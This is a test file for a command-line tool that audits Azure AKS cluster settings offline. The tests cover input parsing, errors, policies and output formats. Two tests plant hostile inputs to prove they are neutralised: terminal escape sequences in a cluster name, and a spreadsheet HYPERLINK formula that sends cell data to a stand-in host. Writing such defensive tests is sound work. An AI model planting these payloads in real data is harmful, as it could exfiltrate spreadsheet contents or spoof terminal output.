import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { text } from 'node:stream/consumers';
import type { Log } from 'sarif';
import { tableFormat } from '../../local/evaluate/table.ts';
import { sampleFleet } from '../../local/fleet/sample-fleet.ts';
import { rules } from '../../src/rules/index.ts';
import { aCluster, aClusterWith } from '../support/a-cluster.ts';

const now = '2026-11-20T08:00:00Z';
const good = aCluster({}, { name: 'good' });
const bad = aCluster({ disableLocalAccounts: false }, { name: 'bad' });

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'evaluate-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true });
});

function write(name: string, content: unknown): void {
  writeFileSync(join(folder, name), typeof content === 'string' ? content : JSON.stringify(content));
}

function start(...args: readonly string[]) {
  const env: NodeJS.ProcessEnv = { ...process.env, INIT_CWD: folder };
  return spawn(process.execPath, ['local/evaluate.ts', ...args], { env });
}

interface Ended {
  readonly code: unknown;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the command where the folder is, with `input` as its standard input. */
async function runWith(input: string, ...args: readonly string[]): Promise<Ended> {
  const child = start(...args);
  child.stdin.end(input);
  const [stdout, stderr, [code]] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    once(child, 'close') as Promise<[unknown]>,
  ]);
  return { code, stdout, stderr };
}

const run = (...args: readonly string[]): Promise<Ended> => runWith('', '--now', now, ...args);

/** The failures alone: without a facts file, rules that need one are unknown. */
const runForFailures = (...args: readonly string[]): Promise<Ended> =>
  run('--format', 'json', '--statuses', 'fail', ...args);

/** The findings that the command wrote with --format json. */
function findingsIn(stdout: string): Record<string, unknown>[] {
  return stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

const withProperties = (name: string, properties: unknown): object => ({
  ...aCluster({}, { name }),
  properties,
});

describe('documents for other tools', () => {
  it('are a SARIF log that is no success when something could not be read', async () => {
    write('a.json', bad);
    write('b.json', '{');
    const { code, stdout } = await run('--format', 'sarif', '--statuses', 'fail', 'a.json', 'b.json');
    const [sarif] = (JSON.parse(stdout) as Log).runs;
    expect(sarif?.results?.map(({ ruleId }) => ruleId)).toContain('AKS012');
    expect(sarif?.invocations?.[0]).toMatchObject({
      executionSuccessful: false,
      toolExecutionNotifications: [{ message: { text: expect.stringContaining('b.json') as string } }],
    });
    expect(code).toBe(2);
  });

  it('are one Compliance Finding of OCSF a line', async () => {
    write('a.json', bad);
    const { stdout } = await run('--format', 'ocsf', '--statuses', 'fail', 'a.json');
    const events = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { class_uid: number });
    expect(new Set(events.map(({ class_uid }) => class_uid))).toEqual(new Set([2003]));
  });
});

describe('the forms in which clusters come', () => {
  it.each<[string, string, string]>([
    ['a document', 'a.json', JSON.stringify(bad, null, 2)],
    ['an array', 'a.json', JSON.stringify([good, bad], null, 2)],
    ['an ARM list', 'a.json', JSON.stringify({ value: [bad, good] })],
    [
      'an answer of Resource Graph',
      'a.json',
      JSON.stringify({ totalRecords: 1, count: 1, data: [bad], facets: [] }),
    ],
    ['one a line', 'a.ndjson', `${JSON.stringify(good)}\n\n${JSON.stringify(bad)}\n`],
  ])('%s', async (_, name, content) => {
    write(name, content);
    const { code, stdout } = await runForFailures(name);
    expect(code).toBe(0);
    expect(findingsIn(stdout).map(({ cluster, rule, status }) => [cluster, rule, status])).toEqual([
      [bad.id, 'AKS012', 'fail'],
    ]);
  });

  it('the standard input', async () => {
    const { code, stdout } = await runWith(
      JSON.stringify(bad, null, 2),
      '--now',
      now,
      '--format',
      'json',
      '--statuses',
      'fail',
      '-',
    );
    expect(code).toBe(0);
    expect(findingsIn(stdout)).toHaveLength(1);
  });

  it('a directory, in which a cluster that comes twice is judged twice', async () => {
    write('a.json', bad);
    write('b.ndjson', bad);
    const { stdout } = await runForFailures('.');
    expect(findingsIn(stdout).map(({ cluster }) => cluster)).toEqual([bad.id, bad.id]);
  });
});

describe('documents that are not clusters', () => {
  it('are told with their place and the reason, and stop nothing', async () => {
    const bodies = [withProperties('text', 'x'), withProperties('null', null), withProperties('list', [])];
    write('a.ndjson', [...bodies, bad].map((body) => JSON.stringify(body)).join('\n'));
    write('b.json', '[\n7]');
    const { code, stdout, stderr } = await run('a.ndjson', 'b.json');
    const idOf = (name: string): string => aCluster({}, { name }).id;
    expect(stderr.split('\n')).toEqual([
      `a.ndjson, line 1: rejected ${idOf('text')}: The row's properties are text, not an object.`,
      `a.ndjson, line 2: rejected ${idOf('null')}: The row's properties are null, not an object.`,
      `a.ndjson, line 3: rejected ${idOf('list')}: The row's properties are a list, not an object.`,
      'b.json, [0]: rejected (a number): The row is a number, not an object.',
      '',
    ]);
    expect(stdout).toContain('Local accounts are enabled.');
    expect(stdout).toMatch(/^1 cluster judged, 4 documents rejected; /m);
    expect(code).toBe(0);
  });

  it('are called what they are when az aks list wrote them', async () => {
    write('a.json', [{ id: bad.id, agentPoolProfiles: [], kubernetesVersion: '1.36' }]);
    expect((await run('a.json')).stderr).toMatch(
      /It looks like az aks list, .*: use az graph query or az rest\.\n$/,
    );
  });
});

describe('what cannot be read or understood', () => {
  it.each<[string, readonly string[], RegExp]>([
    ['no FILE', [], /^No FILE was given\.\n\nJudges AKS clusters offline/],
    [
      'an unknown option',
      ['--fromat', 'json', 'good.json'],
      /^Unknown option '--fromat'\. --help lists the options\.\n$/,
    ],
    [
      'an option without its value',
      ['good.json', '--now'],
      /^Option '--now <value>' argument missing\. --help/,
    ],
    [
      'an unknown format',
      ['--format', 'xml', 'good.json'],
      /^--format must be one of table, json, csv, sarif, ocsf, not xml\.\n$/,
    ],
    [
      'an unknown status',
      ['--statuses', 'fail,broken', 'good.json'],
      /^--statuses must be all, or a list of pass, fail, /,
    ],
    [
      'a word for --now',
      ['--now', 'tomorrow', 'good.json'],
      /^--now must be an instant such as 2026-11-20T08:00:00Z, not tomorrow\.\n$/,
    ],
    [
      'a day that does not exist',
      ['--now', '2026-02-30T08:00:00Z', 'good.json'],
      /^--now must be an instant such as/,
    ],
    [
      'a file that is not there',
      ['none.json'],
      /^none\.json cannot be read: there is no such file or directory\.\n$/,
    ],
    [
      'a file that is not JSON',
      ['broken.json'],
      /^broken\.json, line 2, column 9: this is not JSON \(unexpected x\)\.\n$/,
    ],
    [
      'an empty directory',
      ['empty'],
      /^empty is a directory without a \*\.json, \*\.ndjson or \*\.jsonl file in it\.\n$/,
    ],
    [
      'a rule that there is not',
      ['--enable', 'naming,local-acounts-disabled', '--enable', 'AKS012', 'good.json'],
      /^--enable names rules that do not exist:\n {2}naming: there is no rule of this name\.\n {2}local-acounts-disabled: .* Did you mean local-accounts-disabled\?\n {2}AKS012: .* AKS012 is local-accounts-disabled\.\n$/,
    ],
    [
      'no rule',
      ['--enable', ' ,', 'good.json'],
      /^--enable must be all, or a list of rules by their names\.\n$/,
    ],
    [
      'a facts file that is not there',
      ['--facts', 'none.json', 'good.json'],
      /^none\.json cannot be read: there is no such file or directory\.\n$/,
    ],
    [
      'a facts file with faults, each of which is told',
      ['--facts', 'faulty.json', 'good.json'],
      /^The facts file faulty\.json cannot be used:\n {2}rules: there is no kind of fact of this name\.\n {2}locks: must be a list/,
    ],
    ['a policy that is not there', ['--policy', 'none.json', 'good.json'], /^none\.json cannot be read: /],
    [
      'a policy that is not JSON',
      ['--policy', 'broken.json', 'good.json'],
      /^The policy broken\.json cannot be used:\n {2}It is not JSON: /,
    ],
    [
      'a policy with faults, each of which is told',
      ['--policy', 'faulty.json', 'good.json'],
      /^The policy faulty\.json cannot be used:\n {2}the document: there is no "locks" here\.\n {2}rules\.no-such-rule: .*\n {2}rules\.local-accounts-disabled\.parameters\.days: .*\n$/,
    ],
  ])('%s ends with 2', async (_, args, said) => {
    mkdirSync(join(folder, 'empty'));
    write('good.json', good);
    write('broken.json', '{\n  "id": x}');
    write('faulty.json', {
      rules: { 'no-such-rule': {}, 'local-accounts-disabled': { parameters: { days: 1 } } },
      locks: 7,
    });
    const { code, stderr } = await run(...args);
    expect(stderr).toMatch(said);
    expect(code).toBe(2);
  });

  it('among several files is named, and the others are judged', async () => {
    write('broken.ndjson', `${JSON.stringify(bad)}\n{"id": x}\n`);
    write('good.json', good);
    const { code, stdout, stderr } = await run('none.json', 'broken.ndjson', 'good.json');
    expect(stderr).toBe(
      'none.json cannot be read: there is no such file or directory.\n' +
        'broken.ndjson, line 2, column 8: this is not JSON (unexpected x).\n',
    );
    expect(stdout).toMatch(/^2 clusters judged, 0 documents rejected, 2 inputs not read; /m);
    expect(code).toBe(2);
  });

  it('is not an answer that lacks rows, which is warned of and counted', async () => {
    write('page.json', { data: [good], skip_token: 'next' });
    const { code, stdout, stderr } = await run('page.json');
    expect(stderr).toBe('page.json, line 1 says that more rows follow, which are not in it.\n');
    expect(stdout).toMatch(/^1 cluster judged, 0 documents rejected, 1 document incomplete; /m);
    expect(code).toBe(0);
  });
});

describe('the findings', () => {
  it('are those that are not right, unless others are asked for', async () => {
    write('a.json', [good, bad]);
    const all = findingsIn((await run('--format', 'json', '--statuses', 'all', 'a.json')).stdout);
    expect(all).toHaveLength(2 * rules.filter(({ optIn }) => optIn === undefined).length);
    expect(Object.keys(all[0]!)).toEqual([
      'cluster',
      'rule',
      'name',
      'status',
      'severity',
      'message',
      'evidence',
    ]);
    expect(all.every(({ evidence }) => Array.isArray(evidence))).toBe(true);

    const passes = findingsIn((await run('--format', 'json', '--statuses', 'pass', 'a.json')).stdout);
    expect(passes).toEqual(all.filter(({ status }) => status === 'pass'));
  });

  it('are those of the instant', async () => {
    write('a.json', good);
    const later = await runForFailures('--now', '2036-01-01T00:00:00+01:00', 'a.json');
    expect(findingsIn(later.stdout).map(({ name }) => name)).toContain('kubernetes-version-supported');
    expect((await runForFailures('a.json')).stdout).toBe('');
  });

  it('follow the policy', async () => {
    write('a.json', aCluster({ disableLocalAccounts: false, enableRBAC: false }));
    write(
      'policy.json',
      `\uFEFF${JSON.stringify({
        rules: {
          'local-accounts-disabled': { enabled: false },
          'kubernetes-rbac-enabled': { severity: 'low' },
        },
      })}`,
    );
    const { stdout } = await runForFailures('--policy', 'policy.json', 'a.json');
    expect(findingsIn(stdout).map(({ name, severity }) => [name, severity])).toEqual([
      ['kubernetes-rbac-enabled', 'low'],
    ]);
  });

  it('are judged by the rules of their environment', async () => {
    const free = (name: string, environment: string) =>
      aCluster({}, { name, sku: { name: 'Base', tier: 'Free' }, tags: { owner: 'team-a', environment } });
    write('a.json', [free('a', 'dev'), free('b', 'prod'), free('c', 'other')]);
    write('policy.json', {
      environments: [
        {
          name: 'dev',
          match: { tags: { environment: ['dev'] } },
          rules: { 'sla-tier': { enabled: false } },
        },
        {
          name: 'prod',
          match: { tags: { environment: ['prod'] } },
          rules: { 'sla-tier': { severity: 'critical' } },
        },
      ],
    });
    const { stdout } = await runForFailures('--policy', 'policy.json', 'a.json');
    const tiers = findingsIn(stdout).filter(({ name }) => name === 'sla-tier');
    expect(tiers.map(({ cluster, severity }) => [String(cluster).split('/').at(-1), severity])).toEqual([
      ['b', 'critical'],
      ['c', 'medium'],
    ]);
  });

  it('are told with the owner that the policy finds', async () => {
    const owned = (name: string, tags: Record<string, string>) =>
      aCluster({ enableRBAC: false }, { name, tags });
    write('a.json', [owned('a', { squad: 'team-a' }), owned('b', { owner: 'x' })]);
    write('policy.json', {
      owners: { tags: ['squad'], fallbacks: [{ owner: 'Team B', match: { names: ['b*'] } }] },
    });
    const { stdout } = await run('--format', 'csv', '--policy', 'policy.json', 'a.json');
    const [headings = [], ...lines] = csvRows(stdout);
    const rows = lines.map((cells) =>
      Object.fromEntries(headings.map((heading, index) => [heading, cells[index]])),
    );
    const failures = rows.filter(({ name }) => name === 'kubernetes-rbac-enabled');
    expect(failures.map(({ owner }) => owner)).toEqual(['team-a', 'Team B']);
  });

  it('follow the facts file', async () => {
    write('a.json', aCluster({ kubernetesVersion: '1.99', currentKubernetesVersion: '1.99.0' }));
    const offer = {
      version: '1.99',
      capabilities: { supportPlan: ['KubernetesOfficial'] },
      patchVersions: { '1.99.0': { upgrades: [] } },
    };
    write('facts.json', { kubernetesVersions: { westeurope: { values: [offer] } } });
    const statusWith = async (...args: readonly string[]) => {
      const { stdout } = await run('--format', 'json', '--statuses', 'all', ...args, 'a.json');
      return findingsIn(stdout).find(({ name }) => name === 'kubernetes-version-supported');
    };
    expect(await statusWith()).toMatchObject({
      status: 'unknown',
      message: expect.stringContaining('Azure was not asked for Kubernetes versions.') as unknown,
    });
    expect(await statusWith('--facts', 'facts.json')).toMatchObject({ status: 'pass' });
    write('policy.json', { facts: { kubernetesVersions: false } });
    expect(await statusWith('--facts', 'facts.json', '--policy', 'policy.json')).toMatchObject({
      status: 'unknown',
      message: expect.stringContaining('The policy switches off Kubernetes versions.') as unknown,
    });
  });

  it('say nothing of a terminal, whatever a cluster is called', async () => {
    const hostile = aCluster({ disableLocalAccounts: false }, { name: 'a\u001b[2J\nb\u009b\u202ec' });
    write('a.json', [hostile, { ...hostile, properties: null }]);
    for (const format of ['table', 'json', 'csv']) {
      const { stdout, stderr } = await run('--format', format, 'a.json');
      expect(stderr).not.toMatch(/[^\P{C}\n]/u);
      if (format !== 'csv') expect(stdout).not.toMatch(/[^\P{C}\n]/u);
      if (format === 'table') expect(stdout).toContain('a [2J b c in rg-model');
      if (format === 'json') expect(findingsIn(stdout)[0]).toMatchObject({ cluster: hostile.id });
    }
  });

  it('are inert in a spreadsheet', async () => {
    const formula = '=HYPERLINK("https://example.com/?"&A1,"click")';
    write('a.json', aCluster({ disableLocalAccounts: false }, { name: '=1+1', tags: { owner: formula } }));
    const { stdout } = await run('--format', 'csv', 'a.json');
    const [headings = [], cells = []] = csvRows(stdout);
    const row = Object.fromEntries(headings.map((heading, index) => [heading, cells[index]]));
    expect(row).toMatchObject({ cluster: "'=1+1", owner: `'${formula}`, rule: 'AKS012', status: 'fail' });
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('end well when their reader has seen enough', async () => {
    write('a.ndjson', `${JSON.stringify(bad)}\n`.repeat(3000));
    const child = start('--now', now, '--format', 'json', '--statuses', 'all', 'a.ndjson');
    const said = text(child.stderr);
    const [first] = (await once(child.stdout, 'data')) as [Buffer];
    child.stdout.destroy();
    const [code, signal] = (await once(child, 'close')) as [unknown, unknown];
    expect(first.toString()).toMatch(/^\{"cluster":/);
    expect({ code, signal, said: await said }).toEqual({ code: 0, signal: null, said: '' });
  });
});

it('the findings come whole where nobody listens to the standard error', async () => {
  write('a.ndjson', `${JSON.stringify(bad)}\n7\n`.repeat(3000));
  const child = start('--now', now, '--format', 'json', '--statuses', 'fail', 'a.ndjson');
  child.stderr.destroy();
  const stdout = await text(child.stdout);
  expect(findingsIn(stdout)).toHaveLength(3000);
});

describe('the table', () => {
  it('groups by cluster, shows the evidence, and ends with the totals', async () => {
    const worse = aClusterWith('apiServerAccessProfile', { disableRunCommand: false });
    write('a.json', [good, bad, worse]);
    const { stdout } = await run('--statuses', 'fail', 'a.json');
    const unknown = Number(/; (\d+) unknown; /.exec(stdout)?.[1]);
    expect(stdout).toBe(
      [
        'bad in rg-model, subscription 00000000-0000-0000-0000-000000000001',
        '  fail  high      AKS012  Local accounts are enabled.',
        '                          properties.disableLocalAccounts: false -> true',
        '',
        'aks-model in rg-model, subscription 00000000-0000-0000-0000-000000000001',
        '  fail  medium    AKS007  Command invoke is enabled.',
        '                          properties.apiServerAccessProfile.disableRunCommand: false -> true',
        '',
        `3 clusters judged, 0 documents rejected; failures: 0 critical, 1 high, 1 medium, 0 low, 0 info; ${unknown} unknown; 0 in error; score ${scoreIn(stdout)}`,
        '',
      ].join('\n'),
    );
    expect(scoreIn(stdout)).toBeGreaterThan(90);
    expect(scoreIn(stdout)).toBeLessThan(100);
  });

  it('has no score where nothing was judged', async () => {
    write('a.json', []);
    expect((await run('a.json')).stdout).toMatch(/^0 clusters judged, .*; no score\n$/);
  });

  it('tells the totals beside the findings in the other formats', async () => {
    write('a.json', good);
    expect(await runForFailures('a.json')).toMatchObject({
      stdout: '',
      stderr: expect.stringMatching(/^1 cluster judged, .*; score 100\n$/) as unknown,
    });
  });

  const judged = {
    id: bad.id,
    address: { subscriptionId: 'sub', resourceGroup: 'rg', name: 'n'.repeat(100) },
    owner: null,
    environment: null,
    findings: [
      {
        rule: 'AKS012',
        name: 'local-accounts-disabled',
        category: 'access',
        severity: 'high',
        status: 'fail',
        message: 'Words that do not fit into a line of sixty characters go on in the next.',
        evidence: [{ property: 'a', pool: 'p', actual: null, expected: 'true' }],
      },
    ],
  } as const;

  it('keeps to the width of the terminal', () => {
    const { write } = tableFormat({ width: 60, colour: false, statuses: new Set(['fail']) });
    expect(write(judged).split('\n')).toEqual([
      'n'.repeat(60),
      `${'n'.repeat(40)} in rg, subscription`,
      'sub',
      '  fail  high      AKS012  Words that do not fit into a line',
      '                          of sixty characters go on in the',
      '                          next.',
      '                          a (pool p): absent -> true',
      '',
      '',
    ]);
  });

  it('says once what is not known of several rules', () => {
    const unknown = (rule: string, message: string) =>
      ({ ...judged.findings[0], rule, status: 'unknown', message, evidence: [] }) as const;
    const { write } = tableFormat({ width: Infinity, colour: false, statuses: new Set(['unknown']) });
    const findings = [
      unknown('AKS029', 'Azure was not asked for virtual networks.'),
      unknown('AKS071', 'Azure was not asked for management locks.'),
      unknown('AKS030', 'Azure was not asked for virtual networks.'),
      unknown('AKS053', 'Azure was not asked for virtual networks.'),
    ];
    expect(write({ ...judged, environment: 'prod', findings }).split('\n')).toEqual([
      `${'n'.repeat(100)} in rg, subscription sub, environment prod`,
      '  unknown  high      AKS029  Azure was not asked for virtual networks.',
      '                             The same for AKS030, AKS053.',
      '  unknown  high      AKS071  Azure was not asked for management locks.',
      '',
      '',
    ]);
  });

  it('is coloured only where it is asked to be', () => {
    const options = { width: Infinity, statuses: new Set(['fail'] as const) };
    expect(tableFormat({ ...options, colour: true }).write(judged)).toContain(
      '\u001b[31m  fail  high      AKS012  \u001b[39m',
    );
    expect(tableFormat({ ...options, colour: false }).write(judged)).not.toContain('\u001b');
  });
});

it('--help says how, on the standard output', async () => {
  const { code, stdout, stderr } = await run('--help');
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  for (const option of ['--format', '--statuses', '--now', '--policy', '--enable', '--facts'])
    expect(stdout).toContain(option);
});

describe('every rule, those that are off by default too, ends without an error', () => {
  const runForErrors = (...args: readonly string[]) =>
    run('--format', 'json', '--statuses', 'error', '--enable', 'all', ...args);

  it('over the sample fleet and what stands around it', async () => {
    const { clusters, resources = {} } = sampleFleet();
    write('clusters.json', clusters);
    write('facts.json', resources);
    const { code, stdout, stderr } = await runForErrors('--facts', 'facts.json', 'clusters.json');
    expect(stdout).toBe('');
    expect(stderr).toMatch(new RegExp(`^${clusters.length} clusters judged, 0 documents rejected; `));
    expect(code).toBe(0);
  });

  // Bodies as ARM answered them, and the examples of its specification, where they are at hand.
  for (const fixtures of [resolve('../shared/fixtures')].filter(existsSync)) {
    it('over clusters as ARM answered and documented them', async () => {
      const { code, stdout, stderr } = await runForErrors(fixtures);
      expect(stdout).toBe('');
      expect(stderr).toMatch(/^105 clusters judged, 134 documents rejected, .*; 0 in error; /m);
      expect(code).toBe(0);
    });
  }
});

function scoreIn(stdout: string): number {
  return Number(/; score ([\d.]+)\n$/.exec(stdout)?.[1]);
}

/** The cells of a CSV document (RFC 4180), as a spreadsheet reads them. */
function csvRows(document: string): string[][] {
  return document
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
        ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
      ),
    );
}
